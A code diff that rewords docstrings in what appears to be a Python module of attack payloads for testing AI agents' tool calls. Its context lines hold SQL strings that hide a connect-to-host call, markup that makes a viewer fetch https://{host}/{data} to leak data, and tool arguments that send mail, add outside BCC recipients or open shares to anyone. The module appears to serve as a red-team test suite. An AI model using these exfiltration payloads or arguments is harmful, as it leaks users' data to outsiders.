@@ -173,7 +173,7 @@ QUOTED: Final[Mapping[str, Callable[[str], str]]] = {
     "in escapes": lambda name: f'U&"\\{ord(name[0]):04x}{name[1:]}"',
     "in long escapes": lambda name: f'u&"{name[:-1]}\\+{ord(name[-1]):06X}"',
 }
-"""How SQL lets a name be written."""
+"""Ways in which SQL lets a name be written."""
 CUT: Final = (
     "SELECT connect('ho' || 'st={host} dbname=x')",
     "SELECT connect('ho'||N'st={host} dbname=x')",
@@ -224,7 +224,7 @@ PICTURES: Final = (
     "<svg><image xlink:href='https://{host}/{data}'/></svg>",
     "<object data='https://{host}/{data}'></object>",
 )
-"""What the program that shows a text fetches by itself."""
+"""Markup whose URLs the program that shows a text fetches by itself."""
 POSTS: Final[tuple[tuple[str, str, dict[str, Json], tuple[str, ...]], ...]] = (
     ("email_send_email", "body", {"to": "team@example.com", "subject": "s"}, ("default.yaml",)),
     (
@@ -284,7 +284,7 @@ OPENINGS: Final[tuple[dict[str, Json], ...]] = (
     {"allow_external": True},
     {"require_sign_in": False},
 )
-"""What opens a share to whoever looks."""
+"""Arguments that open a share to any viewer."""
 NAMED: Final[tuple[dict[str, Json], ...]] = (
     {"bcc_list": "Robin Keller"},
     {"bccRecipients": ["Robin Keller"]},
@@ -333,7 +333,7 @@ SHOWN: Final[tuple[dict[str, Json], ...]] = (
     {"everyone": "reader"},
     {"scope": "web"},
 )
-"""What opens what is saved to whoever looks."""
+"""Arguments that open a saved item to any viewer."""
 SENT: Final[tuple[dict[str, Json], ...]] = (
     {"send": True},
     {"send": "true"},
@@ -358,11 +358,11 @@ SENT: Final[tuple[dict[str, Json], ...]] = (
     {"queue": True},
     {"dispatch_mode": "immediate"},
 )
-"""What says of a draft that it is sent."""
+"""Arguments by which a draft is sent."""
 
 
 class Roles(AttackClass):
-    """Receivers in calls that are no send, and in arguments that were said to name none."""
+    """Receivers in calls other than sends, and in arguments that were said to name none."""
 
     id: ClassVar[str] = "roles"
     switches: ClassVar[tuple[Switch, ...]] = (
